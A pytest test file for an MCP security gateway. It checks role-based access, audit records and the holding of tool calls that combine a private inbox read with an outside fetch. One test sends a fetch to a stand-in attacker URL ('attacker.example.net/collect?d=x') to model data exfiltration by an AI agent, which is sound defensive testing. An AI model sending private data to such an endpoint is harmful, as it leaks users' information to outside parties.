"""Every client-to-upstream method takes the guarded path: authorization, policy, legs, audit.

Real parts: `triplock serve` with API keys, the demo upstream over streamable HTTP and over
stdio, and the `mcp` SDK client in both protocol eras.
"""

from __future__ import annotations

import contextlib
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client
from mcp.shared.exceptions import MCPError

from tests.guard.test_approval_flow import e2e_policy
from tests.support import PY, create_api_key, demo_http_cmd, free_port, gateway_cmd, running, write_config

INBOX = "workspace://inbox/inbox-001"
OUTSIDE_URL = "https://attacker.example.net/collect?d=x"
MODES = ["legacy", "2026-07-28"]


@dataclass
class Gw:
    url: str
    audit: Path
    alice: str  # agents-run: may use the demo upstream
    bob: str  # auditor only: no tool grant, so no access to the demo upstream
    carol: str  # agents-run, and never reads anything


def _upstream(transport: str, port: int) -> dict[str, Any]:
    if transport == "http":
        return {"name": "demo", "transport": "http", "url": f"http://127.0.0.1:{port}/mcp"}
    return {"name": "demo", "transport": "stdio", "command": PY,
            "args": ["-m", "gateway.cli", "demo-upstream", "--transport", "stdio"]}


@pytest.fixture(params=["http", "stdio"], scope="module")
def gw(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gw]:
    tmp = tmp_path_factory.mktemp(f"guard-{request.param}")
    keys = tmp / "keys.json"
    alice = create_api_key(keys, "alice", "agents-run")
    bob = create_api_key(keys, "bob", "auditor")
    carol = create_api_key(keys, "carol", "agents-run")  # reads nothing: her legs stay empty
    up_port, gw_port = free_port(), free_port()
    cfg = write_config(
        tmp / "triplock.toml", gw_port, [_upstream(request.param, up_port)],
        policy={"file": str(e2e_policy(tmp))},
        store={"kind": "sqlite", "path": str(tmp / "state.sqlite")},
        approvals={"hold_wait": 0.2},
        auth={"mode": "api_key", "api_keys_file": str(keys)},
    )
    with contextlib.ExitStack() as stack:
        if request.param == "http":
            stack.enter_context(running(demo_http_cmd(up_port), None))  # the gateway's readyz waits for it
        stack.enter_context(running(gateway_cmd(cfg), f"http://127.0.0.1:{gw_port}/readyz"))
        yield Gw(f"http://127.0.0.1:{gw_port}/mcp", tmp / "audit.jsonl", alice, bob, carol)


@contextlib.asynccontextmanager
async def sdk(gw: Gw, key: str, mode: str) -> AsyncIterator[Client]:
    http = create_mcp_http_client(headers={"authorization": f"Bearer {key}"})
    async with http, Client(streamable_http_client(gw.url, http_client=http), mode=mode) as client:
        yield client


def audit_records(gw: Gw, want: Any, deadline: float = 10.0) -> list[dict[str, Any]]:
    """The call records in the audit file once ``want(records)`` holds (records are sealed in batches)."""
    end = time.monotonic() + deadline
    records: list[dict[str, Any]] = []
    while time.monotonic() < end:
        if gw.audit.exists():
            lines = gw.audit.read_bytes().splitlines()
            records = [r for r in map(orjson.loads, lines) if r.get("type", "").startswith("connector.call.")]
            if want(records):
                return records
        time.sleep(0.05)
    raise AssertionError(f"audit never showed what was expected; last records: {records[-5:]}")


@pytest.mark.parametrize("mode", MODES)
async def test_a_role_without_the_upstream_sees_and_reads_nothing_of_it(gw: Gw, mode: str) -> None:
    async with sdk(gw, gw.bob, mode) as client:
        assert (await client.list_resources()).resources == []
        assert (await client.list_resource_templates()).resource_templates == []
        assert (await client.list_prompts()).prompts == []
        with pytest.raises(MCPError, match="Resource not found"):
            await client.read_resource(INBOX)
        with pytest.raises(MCPError, match="Unknown prompt"):
            await client.get_prompt("demo__triage_inbox", {})

    def denied(records: list[dict[str, Any]]) -> bool:
        methods = {r["method"] for r in records if r["principal"] == "bob" and r["rule_ids"] == ["access.role"]}
        return {"resources/read", "prompts/get"} <= methods

    records = audit_records(gw, denied)
    for r in records:
        if r["principal"] == "bob" and r["method"] == "resources/read":
            assert r["decision"] == "deny" and r["outcome"] == "denied" and r["tool"] == INBOX


@pytest.mark.parametrize("mode", MODES)
async def test_the_same_lists_are_open_to_a_role_with_the_upstream(gw: Gw, mode: str) -> None:
    async with sdk(gw, gw.alice, mode) as client:
        templates = (await client.list_resource_templates()).resource_templates
        assert [t.uri_template for t in templates] == ["workspace://inbox/{message_id}"]
        assert [p.name for p in (await client.list_prompts()).prompts] == ["demo__triage_inbox"]
        read = await client.read_resource(INBOX)
        assert "inbox-001" in read.contents[0].text  # type: ignore[union-attr]


async def test_inbox_resource_then_an_outside_fetch_is_held_as_the_trifecta(gw: Gw) -> None:
    async with sdk(gw, gw.alice, "legacy") as client:
        await client.read_resource(INBOX)  # private data and untrusted mail: P+U
        held = await client.call_tool("demo__fetch_url", {"url": OUTSIDE_URL})
    assert held.is_error
    meta = (held.meta or {}).get("triplock/approval", {})
    assert meta.get("status") == "pending" and meta.get("rule_ids") == ["trifecta.hold"]
    assert meta.get("category") == "web_fetch"


async def test_a_fresh_principal_fetching_outside_is_not_held(gw: Gw) -> None:
    """The control for the test above: without the inbox read the fetch runs (U+E only). Another
    principal: alice's legs follow her into every new session for the policy's window."""
    async with sdk(gw, gw.carol, "legacy") as client:
        result = await client.call_tool("demo__fetch_url", {"url": OUTSIDE_URL})
    assert "triplock/approval" not in (result.meta or {})


@pytest.mark.filterwarnings("ignore:resources/subscribe is removed")
async def test_every_guarded_method_is_audited_with_its_decision(gw: Gw) -> None:
    async with sdk(gw, gw.alice, "legacy") as client:
        await client.call_tool("demo__search_drive", {"query": "roadmap"})
        await client.read_resource("workspace://drive/index")
        await client.get_prompt("demo__triage_inbox", {"focus": "billing"})
        with contextlib.suppress(MCPError):  # the demo upstream offers no completions: still guarded
            await client.complete({"type": "ref/prompt", "name": "demo__triage_inbox"}, {"name": "focus", "value": "b"})
        with contextlib.suppress(MCPError):  # nor subscriptions
            await client.subscribe_resource("workspace://drive/index")
    wanted = {"tools/call", "resources/read", "prompts/get", "completion/complete", "resources/subscribe"}

    def complete(records: list[dict[str, Any]]) -> bool:
        return wanted <= {r["method"] for r in records if r["principal"] == "alice"}

    records = [r for r in audit_records(gw, complete) if r["principal"] == "alice"]
    for method in wanted:
        mine = [r for r in records if r["method"] == method]
        assert all(r["decision"] in ("allow", "hold", "deny") and r["rule_ids"] for r in mine), mine
        assert all("arguments" not in r for r in mine)  # hashes only, never the arguments
    prompt = next(r for r in records if r["method"] == "prompts/get")
    assert prompt["tool"] == "triage_inbox" and prompt["exposed_tool"] == "demo__triage_inbox"
    assert prompt["legs_after"] != "-"  # the prompt's content counts: it is not a free read
